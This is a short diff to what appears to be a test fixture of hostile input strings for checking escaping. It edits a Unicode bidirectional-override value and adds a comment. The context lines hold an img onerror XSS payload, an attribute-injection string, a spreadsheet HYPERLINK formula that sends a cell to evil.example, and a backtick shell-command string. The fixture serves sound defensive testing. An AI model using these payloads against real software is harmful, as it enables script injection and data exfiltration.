@@ -6,7 +6,8 @@ const image = `"><img src=x onerror="window.ran = 1">`;
 const single = "' onmouseover='window.ran = 1' x='";
 const template = "{{name}} {{#page}} {{>report-method}} {{&chart}}";
 const formula = `=HYPERLINK("http://evil.example/?"&A1,"click")`;
-const turned = "\u202Eecilop\u202C \u200Fmark \u2067isolate\u2069";
+// Blanks and what cannot be seen at its end are no part of a value.
+const turned = "\u202Eecilop\u202C \u200Fmark \u2067isolate\u2069 end";
 // What gnuplot, printf and enhanced text would make something of.
 const drawing = "`touch drawn` @left %s %d {/Symbol a} x^2_3 \\n $1 \"quoted\" # comment";
 const lines = "two\nlines\r\nand a\ttab";
